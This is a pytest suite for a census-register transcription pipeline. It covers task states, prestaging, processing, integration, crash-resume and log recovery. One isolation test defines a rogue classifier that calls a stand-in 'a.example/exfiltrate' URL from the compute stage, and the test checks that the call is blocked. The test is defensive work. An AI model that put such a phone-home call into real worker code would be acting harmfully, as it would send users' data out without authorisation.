import json
import shutil
import sys
from collections import Counter
from pathlib import Path

import pytest

from censusflow.domain import PageClass
from censusflow.fixtures import FixtureTransport, generate_corpus
from censusflow.iiif import IiifEndpoint, IsolationViolation, NullTransport
from censusflow.label_codec import SyntheticProfile
from censusflow.pipeline import (
    ALLOWED_TRANSITIONS,
    EmptySelection,
    ExternalProcessWorker,
    IllegalTransition,
    LocalExecutor,
    ManifestStore,
    MockClassifier,
    MockRecognizer,
    PipelineContext,
    ResultStore,
    RunConfig,
    SimulatedBatchScheduler,
    TaskState,
    TransitionLog,
    WorkerSet,
    mock_worker_set,
    plan_batch,
    run_batch,
    run_stage_integrate,
    run_stage_prestage,
    run_stage_process,
    task_id_for,
    validate_payload,
)
from censusflow.pipeline.manifests import FailureInfo, TaskManifest, advance
from censusflow.pipeline.runner import registry_from_manifests

ENDPOINT = IiifEndpoint("https://fixture.local/iiif")

SMALL_PROFILE = SyntheticProfile(min_rows=4, max_rows=8, household_size_mean=3.0)


@pytest.fixture
def corpus(tmp_path):
    return generate_corpus(
        tmp_path / "corpus", registers=2, seed=11, list_pages_min=2, list_pages_max=2,
        profile=SMALL_PROFILE,
    )


@pytest.fixture
def ctx(tmp_path):
    return PipelineContext.at(tmp_path / "ws")


def transport_for(corpus, **kwargs):
    return FixtureTransport(corpus.root, **kwargs)


def run_config(tmp_path, corpus, **overrides) -> RunConfig:
    defaults = dict(
        workspace=tmp_path / "ws",
        registry=corpus.registry,
        endpoint=ENDPOINT,
        transport=transport_for(corpus),
        workers=mock_worker_set(seed=0),
        scheduler=LocalExecutor(4),
        prestage_concurrency=4,
    )
    defaults.update(overrides)
    return RunConfig(**defaults)


class TestStateMachine:
    def test_allowed_graph_shape(self):
        assert ALLOWED_TRANSITIONS[TaskState.PENDING] == {TaskState.STAGED, TaskState.FAILED}
        assert ALLOWED_TRANSITIONS[TaskState.INTEGRATED] == frozenset()
        assert ALLOWED_TRANSITIONS[TaskState.FAILED] == frozenset()

    def test_illegal_transition_rejected(self, corpus, ctx):
        manifests = plan_batch(corpus.registry, ctx)
        with pytest.raises(IllegalTransition):
            advance(manifests[0], TaskState.PROCESSED, ctx)

    def test_failed_reachable_from_active_states(self):
        for state in (TaskState.PENDING, TaskState.STAGED, TaskState.PROCESSING,
                      TaskState.PROCESSED):
            assert TaskState.FAILED in ALLOWED_TRANSITIONS[state]

    def test_manifest_json_roundtrip(self, corpus, ctx):
        manifests = plan_batch(corpus.registry, ctx)
        manifest = manifests[0]
        manifest.attempts["process"] = 2
        manifest.failure = FailureInfo("process", "worker_error: x", 2)
        clone = TaskManifest.from_json_dict(manifest.to_json_dict())
        assert clone.task_id == manifest.task_id
        assert clone.image == manifest.image
        assert clone.failure == manifest.failure


class TestPlanBatch:
    def test_plans_every_image(self, corpus, ctx):
        manifests = plan_batch(corpus.registry, ctx)
        assert len(manifests) == corpus.image_count
        assert all(m.state is TaskState.PENDING for m in manifests)
        ids = [m.task_id for m in manifests]
        assert ids == sorted(ids)

    def test_replan_is_idempotent(self, corpus, ctx):
        first = plan_batch(corpus.registry, ctx)
        advance(first[0], TaskState.STAGED, ctx)
        second = plan_batch(corpus.registry, ctx)
        assert len(second) == len(first)
        assert second[0].state is TaskState.STAGED
        assert sum(1 for m in second if m.state is TaskState.PENDING) == len(first) - 1

    def test_filters(self, corpus, ctx):
        register = corpus.registry.registers[0]
        manifests = plan_batch(
            corpus.registry, ctx, register_id=register.metadata.register_id
        )
        assert len(manifests) == len(register.images)

    def test_empty_selection(self, corpus, ctx):
        with pytest.raises(EmptySelection):
            plan_batch(corpus.registry, ctx, year=1916)

    def test_limit(self, corpus, ctx):
        assert len(plan_batch(corpus.registry, ctx, limit=3)) == 3


class TestPrestage:
    def test_all_fetches_succeed(self, tmp_path, corpus, ctx):
        manifests = plan_batch(corpus.registry, ctx)
        run_stage_prestage(
            manifests, ctx, endpoint=ENDPOINT, transport=transport_for(corpus),
            staging_dir=tmp_path / "ws" / "staging", concurrency=4,
        )
        assert all(m.state is TaskState.STAGED for m in manifests)
        for m in manifests:
            assert Path(m.staged_path).exists()
            assert m.image.verified and m.image.width > 0

    def test_missing_image_fails_task(self, tmp_path, corpus, ctx):
        manifests = plan_batch(corpus.registry, ctx)
        victim = manifests[0].image.iiif_identifier
        transport = transport_for(corpus, missing=[victim])
        run_stage_prestage(
            manifests, ctx, endpoint=ENDPOINT, transport=transport,
            staging_dir=tmp_path / "ws" / "staging", concurrency=4,
        )
        states = {m.task_id: m.state for m in manifests}
        failed = [m for m in manifests if m.state is TaskState.FAILED]
        assert len(failed) == 1
        assert failed[0].image.iiif_identifier == victim
        assert failed[0].failure.stage == "prestage"
        assert "missing" in failed[0].failure.reason
        assert sum(1 for s in states.values() if s is TaskState.STAGED) == len(manifests) - 1

    def test_transient_failures_retried(self, tmp_path, corpus, ctx):
        manifests = plan_batch(corpus.registry, ctx)
        victim = manifests[0].image.iiif_identifier
        transport = transport_for(corpus, flaky={victim: 2})
        run_stage_prestage(
            manifests, ctx, endpoint=ENDPOINT, transport=transport,
            staging_dir=tmp_path / "ws" / "staging", concurrency=1,
        )
        assert manifests[0].state is TaskState.STAGED

    def test_rerun_touches_only_pending(self, tmp_path, corpus, ctx):
        manifests = plan_batch(corpus.registry, ctx)
        transport = transport_for(corpus)
        run_stage_prestage(
            manifests, ctx, endpoint=ENDPOINT, transport=transport,
            staging_dir=tmp_path / "ws" / "staging",
        )
        calls_before = transport.calls
        run_stage_prestage(
            manifests, ctx, endpoint=ENDPOINT, transport=transport,
            staging_dir=tmp_path / "ws" / "staging",
        )
        assert transport.calls == calls_before


def staged_manifests(tmp_path, corpus, ctx):
    manifests = plan_batch(corpus.registry, ctx)
    run_stage_prestage(
        manifests, ctx, endpoint=ENDPOINT, transport=transport_for(corpus),
        staging_dir=tmp_path / "ws" / "staging", concurrency=4,
    )
    return manifests


class TestProcess:
    def test_non_list_pages_skip_recognizer(self, tmp_path, corpus, ctx):
        manifests = staged_manifests(tmp_path, corpus, ctx)
        run_stage_process(
            manifests, ctx, workers=mock_worker_set(), scheduler=LocalExecutor(4),
            results_dir=tmp_path / "ws" / "results",
        )
        assert all(m.state is TaskState.PROCESSED for m in manifests)
        recap = next(
            m for m in manifests
            if json.loads(Path(m.result_path).read_text())["page_class"] == "RECAP"
        )
        payload = json.loads(Path(recap.result_path).read_text())
        assert payload["transcript"] is None

    def test_zero_noise_matches_fixture_truth(self, tmp_path, corpus, ctx):
        manifests = staged_manifests(tmp_path, corpus, ctx)
        run_stage_process(
            manifests, ctx, workers=mock_worker_set(), scheduler=LocalExecutor(4),
            results_dir=tmp_path / "ws" / "results",
        )
        synth = corpus.registers[0]
        for page in synth.document.pages:
            if page.page_class is not PageClass.LIST:
                continue
            manifest = next(
                m for m in manifests if m.image.iiif_identifier == page.page_id
            )
            payload = json.loads(Path(manifest.result_path).read_text())
            got = [
                {item["tag"]: item["text"] for item in record["fields"]}
                for record in payload["transcript"]["records"]
            ]
            expected = [
                {tag.name.lower(): value for tag, value in record.fields.items()}
                for record in page.transcript.records
            ]
            assert got == expected

    def test_missing_staged_file_fails(self, tmp_path, corpus, ctx):
        manifests = staged_manifests(tmp_path, corpus, ctx)
        Path(manifests[0].staged_path).unlink()
        run_stage_process(
            manifests, ctx, workers=mock_worker_set(), scheduler=LocalExecutor(2),
            results_dir=tmp_path / "ws" / "results",
        )
        assert manifests[0].state is TaskState.FAILED
        assert manifests[0].failure.reason == "missing_input"

    def test_worker_crash_retries_then_fails(self, tmp_path, corpus, ctx):
        manifests = staged_manifests(tmp_path, corpus, ctx)

        class CrashingClassifier:
            version = "crash/1"
            calls = 0

            def classify(self, image_bytes):
                type(self).calls += 1
                raise RuntimeError("cuda out of memory")

        workers = WorkerSet(CrashingClassifier(), MockRecognizer())
        run_stage_process(
            manifests, ctx, workers=workers, scheduler=LocalExecutor(1),
            results_dir=tmp_path / "ws" / "results", retry_limit=3,
        )
        assert all(m.state is TaskState.FAILED for m in manifests)
        first = manifests[0]
        assert first.failure.stage == "process"
        assert "worker_error" in first.failure.reason
        assert first.attempts["process"] == 3

    def test_simulated_scheduler_processes_everything(self, tmp_path, corpus, ctx):
        manifests = staged_manifests(tmp_path, corpus, ctx)
        run_stage_process(
            manifests, ctx, workers=mock_worker_set(),
            scheduler=SimulatedBatchScheduler(nodes=2),
            results_dir=tmp_path / "ws" / "results",
        )
        assert all(m.state is TaskState.PROCESSED for m in manifests)


class TestIsolation:
    def test_rogue_worker_fails_under_simulated_scheduler(self, tmp_path, corpus, ctx):
        manifests = staged_manifests(tmp_path, corpus, ctx)

        class RogueClassifier:
            """Tries to phone home from the compute stage."""

            version = "rogue/1"

            def __init__(self, workers):
                self.workers = workers

            def classify(self, image_bytes):
                self.workers.transport.get("https://a.example/exfiltrate", 1000)
                return PageClass.OTHER

        workers = WorkerSet(None, MockRecognizer())
        workers.classifier = RogueClassifier(workers)
        run_stage_process(
            manifests, ctx, workers=workers, scheduler=SimulatedBatchScheduler(nodes=2),
            results_dir=tmp_path / "ws" / "results",
        )
        assert all(m.state is TaskState.FAILED for m in manifests)
        assert all("isolation" in m.failure.reason for m in manifests)

    def test_rogue_worker_allowed_on_connected_executor(self, tmp_path, corpus, ctx):
        manifests = staged_manifests(tmp_path, corpus, ctx)

        class PhoneHomeClassifier:
            version = "rogue/2"

            def __init__(self, workers, transport):
                self.workers = workers
                self.transport = transport

            def classify(self, image_bytes):
                # Connected stage may use its transport freely.
                self.workers.transport.get(
                    "https://fixture.local/iiif/" + manifests[0].image.iiif_identifier.replace("/", "%2F") + "/info.json",
                    1000,
                )
                return MockClassifier().classify(image_bytes)

        workers = WorkerSet(None, MockRecognizer())
        workers.transport = transport_for(corpus)
        workers.classifier = PhoneHomeClassifier(workers, workers.transport)
        run_stage_process(
            manifests, ctx, workers=workers, scheduler=LocalExecutor(1),
            results_dir=tmp_path / "ws" / "results",
        )
        assert all(m.state is TaskState.PROCESSED for m in manifests)

    def test_isolated_run_restores_caller_transport(self, tmp_path, corpus, ctx):
        manifests = staged_manifests(tmp_path, corpus, ctx)
        seen = []

        class SpyClassifier:
            version = "spy/1"

            def classify(self, image_bytes):
                seen.append(workers.transport)
                return PageClass.OTHER

        caller_transport = transport_for(corpus)
        workers = WorkerSet(SpyClassifier(), MockRecognizer(), transport=caller_transport)
        run_stage_process(
            manifests, ctx, workers=workers, scheduler=SimulatedBatchScheduler(nodes=2),
            results_dir=tmp_path / "ws" / "results",
        )
        assert len(seen) == len(manifests)
        assert all(isinstance(t, NullTransport) for t in seen)
        assert workers.transport is caller_transport

    def test_null_transport_raises(self):
        with pytest.raises(IsolationViolation):
            NullTransport().get("https://anywhere", 1)


class TestIntegrate:
    def make_processed(self, tmp_path, corpus, ctx):
        manifests = staged_manifests(tmp_path, corpus, ctx)
        run_stage_process(
            manifests, ctx, workers=mock_worker_set(), scheduler=LocalExecutor(4),
            results_dir=tmp_path / "ws" / "results",
        )
        return manifests

    def test_integrates_all(self, tmp_path, corpus, ctx):
        manifests = self.make_processed(tmp_path, corpus, ctx)
        store = ResultStore(tmp_path / "ws" / "results_store.ndjson")
        run_stage_integrate(manifests, ctx, results_store=store)
        assert all(m.state is TaskState.INTEGRATED for m in manifests)
        assert len(store) == len(manifests)

    def test_duplicate_integration_is_noop(self, tmp_path, corpus, ctx):
        manifests = self.make_processed(tmp_path, corpus, ctx)
        store = ResultStore(tmp_path / "ws" / "results_store.ndjson")
        run_stage_integrate(manifests, ctx, results_store=store)
        records_before = store.records()
        # Fresh store over the same file simulates a resumed integrator.
        resumed = ResultStore(tmp_path / "ws" / "results_store.ndjson")
        for manifest in manifests:
            resumed.add(manifest.task_id, {"task_id": manifest.task_id})
        assert resumed.records() == records_before

    def test_schema_violation_fails_task(self, tmp_path, corpus, ctx):
        manifests = self.make_processed(tmp_path, corpus, ctx)
        victim = next(
            m for m in manifests
            if json.loads(Path(m.result_path).read_text())["page_class"] == "TOTALS"
        )
        payload = json.loads(Path(victim.result_path).read_text())
        payload["transcript"] = {"records": []}  # transcript on a TOTALS page
        Path(victim.result_path).write_text(json.dumps(payload))
        store = ResultStore(tmp_path / "ws" / "results_store.ndjson")
        run_stage_integrate(manifests, ctx, results_store=store)
        assert victim.state is TaskState.FAILED
        assert victim.failure.reason.startswith("schema")

    def test_validate_payload_rules(self):
        base = {
            "task_id": "t", "register_id": "r", "page_id": "p",
            "sequence_index": 0, "page_class": "LIST", "transcript": None,
        }
        assert validate_payload({**base}) == ["LIST page without transcript"]
        ok = {
            **base,
            "transcript": {"records": [
                {"is_head": True, "fields": [{"tag": "surname_head", "text": "A"}]}
            ]},
        }
        assert validate_payload(ok) == []
        bad_head = {
            **base,
            "transcript": {"records": [
                {"is_head": False, "fields": [{"tag": "surname_head", "text": "A"}]}
            ]},
        }
        assert any("is_head" in p for p in validate_payload(bad_head))


class TestRunBatch:
    def test_zero_noise_end_to_end(self, tmp_path, corpus):
        config = run_config(tmp_path, corpus)
        report = run_batch(config)
        assert report.counts["INTEGRATED"] == corpus.image_count
        assert report.counts["FAILED"] == 0
        truth = (corpus.root / "truth" / "households.csv").read_text(encoding="utf-8")
        got = Path(report.households_csv).read_text(encoding="utf-8")
        assert got == truth

    def test_small_window_needs_multiple_rounds(self, tmp_path, corpus):
        config = run_config(tmp_path, corpus, window=3)
        report = run_batch(config)
        assert report.counts["INTEGRATED"] == corpus.image_count
        truth = (corpus.root / "truth" / "households.csv").read_text(encoding="utf-8")
        assert Path(report.households_csv).read_text(encoding="utf-8") == truth

    def test_window_must_be_positive(self, tmp_path, corpus):
        with pytest.raises(ValueError):
            run_config(tmp_path, corpus, window=0)

    def test_rerun_is_noop(self, tmp_path, corpus):
        config = run_config(tmp_path, corpus)
        run_batch(config)
        transport = config.transport
        calls_before = transport.calls
        report = run_batch(run_config(tmp_path, corpus, transport=transport))
        assert report.counts["INTEGRATED"] == corpus.image_count
        assert transport.calls == calls_before

    def test_conservation_with_failures(self, tmp_path, corpus):
        victim = corpus.registry.registers[0].images[1].iiif_identifier
        config = run_config(
            tmp_path, corpus, transport=transport_for(corpus, missing=[victim])
        )
        report = run_batch(config)
        assert report.counts["INTEGRATED"] + report.counts["FAILED"] == report.planned
        assert report.counts["FAILED"] == 1
        assert not report.succeeded
        assert report.registers_skipped == 1

    def test_crash_and_resume_matches_uninterrupted(self, tmp_path, corpus):
        # Reference run, never interrupted.
        reference = run_config(
            tmp_path, corpus, workspace=tmp_path / "ws_reference", clock=lambda: 0.0
        )
        ref_report = run_batch(reference)
        ref_households = Path(ref_report.households_csv).read_text(encoding="utf-8")
        ref_states = {
            m.task_id: m.state for m in ManifestStore(reference.workspace).load_all()
        }

        class Crash(BaseException):
            pass

        for crash_after in (1, 3, 7, 19, 35):
            workspace = tmp_path / f"ws_crash_{crash_after}"
            seen = 0

            def bomb(manifest):
                nonlocal seen
                seen += 1
                if seen == crash_after:
                    raise Crash()

            config = run_config(
                tmp_path, corpus, workspace=workspace, clock=lambda: 0.0,
                on_transition=bomb, scheduler=LocalExecutor(1), prestage_concurrency=1,
            )
            with pytest.raises(Crash):
                run_batch(config)
            resumed = run_config(tmp_path, corpus, workspace=workspace, clock=lambda: 0.0)
            report = run_batch(resumed)
            states = {m.task_id: m.state for m in ManifestStore(workspace).load_all()}
            assert states == ref_states, f"crash after {crash_after} transitions"
            got = Path(report.households_csv).read_text(encoding="utf-8")
            assert got == ref_households

    def test_resume_after_kill_at_any_log_offset(self, tmp_path, corpus):
        """A kill can land between two appends or in the middle of one. At
        every record boundary of a finished run's task log, and inside every
        record, rebuild what the kill leaves (the log cut there, the result
        store holding the records whose INTEGRATED transition survives plus
        half of the next one, or all of it, as a kill between the store's
        append and the INTEGRATED one leaves it) and require resume to
        finish as the uninterrupted run did."""
        workspace = tmp_path / "ws"
        reference = run_config(tmp_path, corpus, workspace=workspace, clock=lambda: 0.0)
        ref_report = run_batch(reference)
        ref_households = Path(ref_report.households_csv).read_bytes()
        ref_states = {m.task_id: m.state for m in ManifestStore(workspace).load_all()}
        integrated = {t for t, state in ref_states.items() if state is TaskState.INTEGRATED}
        assert not (workspace / "manifests").exists()

        finished = tmp_path / "finished"
        shutil.copytree(workspace, finished)
        log_path = TransitionLog(workspace).path.relative_to(workspace)
        store_path = reference.store_path.relative_to(workspace)
        log_lines = (finished / log_path).read_bytes().splitlines(keepends=True)
        store_lines = (finished / store_path).read_bytes().splitlines(keepends=True)
        assert len(store_lines) == len(integrated)

        cuts = [0]
        for line in log_lines:
            cuts += [cuts[-1] + len(line) // 2, cuts[-1] + len(line)]
        log_bytes = b"".join(log_lines)
        kills = []
        for cut in cuts:
            survived = [json.loads(line) for line in log_bytes[:cut].splitlines(keepends=True)
                        if line.endswith(b"\n")]
            stored = sum(1 for record in survived if record["to"] == "INTEGRATED")
            store = b"".join(store_lines[:stored])
            kills.append((cut, store))
            if stored < len(store_lines):
                kills.append((cut, store + store_lines[stored][: len(store_lines[stored]) // 2]))
                kills.append((cut, store + store_lines[stored]))
        for cut, store in kills:
            shutil.rmtree(workspace)
            shutil.copytree(finished, workspace)
            (workspace / log_path).write_bytes(log_bytes[:cut])
            (workspace / store_path).write_bytes(store)
            (workspace / "households.csv").unlink()

            resumed = run_config(
                tmp_path, corpus, workspace=workspace, clock=lambda: 0.0,
                scheduler=SimulatedBatchScheduler(),
            )
            report = run_batch(resumed)
            states = {m.task_id: m.state for m in ManifestStore(workspace).load_all()}
            assert states == ref_states, f"kill at log byte {cut}, store {len(store)} bytes"
            assert Path(report.households_csv).read_bytes() == ref_households
            counts = Counter(r["task_id"] for r in ResultStore(resumed.store_path).records())
            assert set(counts) == integrated and set(counts.values()) == {1}

    def test_torn_tail_skipped_on_read_and_cut_on_first_append(self, tmp_path, corpus):
        workspace = tmp_path / "ws"
        config = run_config(tmp_path, corpus, workspace=workspace)
        run_batch(config)
        log_path = TransitionLog(workspace).path
        expected = ManifestStore(workspace).load_all()
        torn_log = log_path.read_bytes() + b'{"task_id": "torn'
        torn_store = config.store_path.read_bytes() + b'{"task_id": "torn'
        log_path.write_bytes(torn_log)
        config.store_path.write_bytes(torn_store)

        store = ResultStore(config.store_path)
        assert len(store.records()) == len(store)
        assert ManifestStore(workspace).load_all() == expected
        assert len(list(TransitionLog(workspace).replay())) == torn_log.count(b"\n")
        assert log_path.read_bytes() == torn_log
        assert config.store_path.read_bytes() == torn_store

        store.add("new", {"task_id": "new"})
        TransitionLog(workspace).append({"task_id": "new"})
        assert config.store_path.read_bytes() == torn_store[: torn_store.rindex(b"\n") + 1] + (
            b'{"task_id": "new"}\n'
        )
        assert log_path.read_bytes() == torn_log[: torn_log.rindex(b"\n") + 1] + (
            b'{"task_id": "new"}\n'
        )

    def test_transition_log_replay_stays_in_graph(self, tmp_path, corpus):
        config = run_config(tmp_path, corpus)
        run_batch(config)
        log = TransitionLog(config.workspace)
        last_state = {}
        for entry in log.replay():
            src = entry["from"]
            dst = TaskState(entry["to"])
            if src is None:
                assert dst is TaskState.PENDING
            else:
                assert dst in ALLOWED_TRANSITIONS[TaskState(src)]
                assert last_state[entry["task_id"]] is TaskState(src)
            last_state[entry["task_id"]] = dst

    def test_timestamps_monotone(self, tmp_path, corpus):
        config = run_config(tmp_path, corpus)
        run_batch(config)
        order = ["PENDING", "STAGED", "PROCESSING", "PROCESSED", "INTEGRATED"]
        for manifest in ManifestStore(config.workspace).load_all():
            stamps = [manifest.timestamps[s] for s in order if s in manifest.timestamps]
            assert stamps == sorted(stamps)


class TestExternalProcessWorker:
    def test_classify_via_subprocess(self, corpus):
        worker = ExternalProcessWorker(
            [sys.executable, "-c", "import sys; print('RECAP')"], None
        )
        assert worker.classify(b"anything") is PageClass.RECAP

    def test_recognize_via_subprocess(self):
        worker = ExternalProcessWorker(
            None, [sys.executable, "-c", "import sys; print('<s-h>Gendre <a>75')"]
        )
        assert worker.recognize(b"anything") == "<s-h>Gendre <a>75"

    def test_nonzero_exit_raises(self):
        worker = ExternalProcessWorker([sys.executable, "-c", "raise SystemExit(3)"], None)
        with pytest.raises(Exception):
            worker.classify(b"x")


class TestRegistryFromManifests:
    def test_roundtrip(self, corpus, ctx):
        manifests = plan_batch(corpus.registry, ctx)
        rebuilt = registry_from_manifests(manifests)
        assert rebuilt.image_count() == corpus.image_count
        original_ids = sorted(r.metadata.register_id for r in corpus.registry.registers)
        rebuilt_ids = sorted(r.metadata.register_id for r in rebuilt.registers)
        assert rebuilt_ids == original_ids

    def test_task_ids_deterministic(self, corpus):
        image = corpus.registry.registers[0].images[0]
        assert task_id_for(image) == task_id_for(image)
        assert task_id_for(image).endswith("-p0000")
